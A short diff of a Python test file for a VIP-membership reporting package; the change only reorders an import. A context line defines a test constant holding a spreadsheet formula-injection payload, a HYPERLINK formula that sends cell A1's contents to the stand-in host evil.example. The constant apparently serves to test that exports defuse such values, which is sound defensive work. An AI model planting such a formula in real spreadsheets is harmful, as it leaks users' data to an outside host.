@@ -14,9 +14,9 @@ import pytest
 
 from browser import chromium, chromium_or_skip
 from csbatch.reports.tables import VIP_DISCOUNT_AUDIT, VIP_MEMBERS, VIP_POINTS, VIP_TASKS
+from csbatch.reports.vip_statements import money, render_statements, statement_filename
 from csbatch.reports.vip_workbook import write_vip_workbook
 from csbatch.vip.model import CARD_COLUMNS, POINT_COLUMNS, PURCHASE_COLUMNS, VipResult, empty
-from csbatch.reports.vip_statements import money, render_statements, statement_filename
 
 PERIOD = "2026-10"
 HOSTILE_XLSX = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
